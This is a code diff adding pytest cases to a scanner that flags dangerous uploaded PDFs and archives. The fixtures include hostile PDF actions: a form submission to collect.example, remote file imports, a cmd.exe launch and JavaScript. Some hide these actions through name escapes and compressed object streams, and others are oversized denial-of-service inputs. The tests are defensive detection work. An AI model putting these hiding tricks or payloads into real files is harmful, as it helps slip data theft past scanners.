@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import binascii
 import gzip
+import random
 import time
+import zlib
 from collections.abc import Callable
 
 import pytest
@@ -39,6 +42,11 @@ HARMFUL: list[tuple[str, bytes, str, str]] = [
         ("kbis.pdf", doing(b"/S /JavaScript /JS (x)"), "application/pdf", "JavaScript"),
         ("kbis.pdf", doing(b"/S /J#61vaScript"), "application/pdf", "JavaScript"),
         ("kbis.pdf", packed_pdf(b"<< /S /Launch /F (cmd.exe) >>"), "application/pdf", "starts programs"),
+        ("kbis.pdf", doing(b"/S /SubmitForm /F (https://collect.example)"), "application/pdf", "sends away"),
+        ("kbis.pdf", doing(b"/S /ImportData /F (//collect.example/a.fdf)"), "application/pdf", "another file"),
+        ("kbis.pdf", doing(b"/S /GoToR /F (//collect.example/a.pdf)"), "application/pdf", "opens other files"),
+        ("kbis.pdf", doing(b"/S /GoTo#45 /T 5 0 R"), "application/pdf", "opens other files"),
+        ("kbis.pdf", doing(b"/S /#52ichMediaExecute"), "application/pdf", "active media"),
         ("kbis.pdf", PDF + b"<< /Type /EmbeddedFile >>", "application/pdf", "carries other files"),
         ("kbis.pdf", PDF + zipped("a.txt"), "application/pdf", "archive as well"),
         ("photo.jpg", JPEG + zipped("a.txt"), "image/jpeg", "archive as well"),
@@ -80,6 +88,46 @@ def test_T33_what_can_do_harm_is_dangerous(name: str, content: bytes, kind: str,
     assert found.verdict == "dangerous"
     assert kind in found.type
     assert why in found.why
+
+
+ACTS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+NOISE = random.Random(7).randbytes(400_000)  # noqa: S311 - the same each time
+PACKED: dict[str, bytes] = {
+    "in an object stream": packed_pdf(ACTS),
+    "with the stream's name in escapes": packed_pdf(ACTS, b"/Type /Obj#53tm /N 1 /First 4"),
+    "in one that says not what it is": packed_pdf(ACTS, b"/N 1 /#46irst 4"),
+    "behind a long dictionary": packed_pdf(ACTS, before=b" " * 9000),
+    "behind words that look like data": packed_pdf(ACTS, before=b"/X (stream\n1 x) % stream\n"),
+    "behind much that cannot be packed": packed_pdf(b"(" + NOISE + b")" + ACTS),
+    "where pieces meet": packed_pdf(b" " * ((1 << 20) - 12) + ACTS),
+    "in the second of two": packed_pdf(b"<< >>") + packed_pdf(b"<< /Next << /S /Launch >> >>"),
+    "each action of the kind": packed_pdf(b"<< /S /SubmitForm >>"),
+    "with a predictor": packed_pdf(b"", data=zlib.compress(b"\x021 0 <<\x02/S/JS")),
+    "in letters": packed_pdf(b"", data=binascii.hexlify(zlib.compress(b"1 0 " + ACTS)) + b">"),
+    "in nothing": packed_pdf(b"", data=b""),
+}
+
+
+@pytest.mark.parametrize("content", PACKED.values(), ids=PACKED.keys())
+def test_T33_an_action_in_a_packed_object_is_found_or_the_file_is_not_trusted(content: bytes) -> None:
+    """However the stream is written; one that is packed as no honest program packs it is dangerous by itself (T33)."""
+    found = judged("kbis.pdf", "application/pdf", content)
+    assert found.verdict == "dangerous"
+    assert found.why.startswith("the PDF ")
+
+
+HONEST: dict[str, bytes] = {
+    "packed objects": packed_pdf(b"<< /Type /Page >>") + packed_pdf(b"<< /Type /Font >>"),
+    "objects that are not packed": packed_pdf(b"", data=b"1 0 << /Type /Page >>"),
+    "an outline before a picture": packed_pdf(b"", b"/First 4 0 R >> endobj 6 0 obj << /Length 9", data=JPEG),
+    "a lock without a password": packed_pdf(b"", data=NOISE[:900]) + b"trailer << /Encrypt 9 0 R >>",
+}
+
+
+@pytest.mark.parametrize("content", HONEST.values(), ids=HONEST.keys())
+def test_a_pdf_that_does_nothing_is_a_document(content: bytes) -> None:
+    """As honest programs write them, locked against copying too: how a lock is opened is not for a search to know."""
+    assert judged("kbis.pdf", "application/pdf", content).verdict == "plausible"
 
 
 DOCUMENTS: list[tuple[str, str, bytes, str, str]] = [
@@ -147,9 +195,17 @@ def zip_of_many() -> bytes:
     return zipped(*(f"{number}.txt" for number in range(30_000)))
 
 
+# A packed piece that begins like objects, and a block of nothing.
+FIRST = b"/First stream\n\x78\x9c\x00\x04\x00\xfb\xff1 0 "
+EMPTY = b"\x00\x00\x00\xff\xff"
+
 HOSTILE: dict[str, Callable[[], bytes]] = {
     "streams": lambda: b"%PDF-1.7\n" + b"/ObjStm stream\n" * 200_000,
     "escapes": lambda: b"%PDF-1.7\n" + b"/#41" * 2_000_000,
+    "streams in a locked file": lambda: b"%PDF-1.7\n" + b"/ObjStm stream\n" * 400_000 + b"/Encrypt",
+    "a lock far away": lambda: b"%PDF-1.7\n" + b"/ObjStm stream\n" * 1900 + bytes(9_000_000) + b"/Encrypt",
+    "outlines": lambda: b"%PDF-1.7\n" + b"/First 1 0 R" * 700_000,
+    "streams of nothing": lambda: b"%PDF-1.7\n" + (FIRST + EMPTY * 2000) * 900,
     "packed": lambda: b"%PDF-1.7\n" + packed_pdf(bytes(20_000_000)) * 50,
     "comments": lambda: b"<!---->" * 500_000,
     "ends": lambda: b"PK\x05\x06" * 2_000_000,
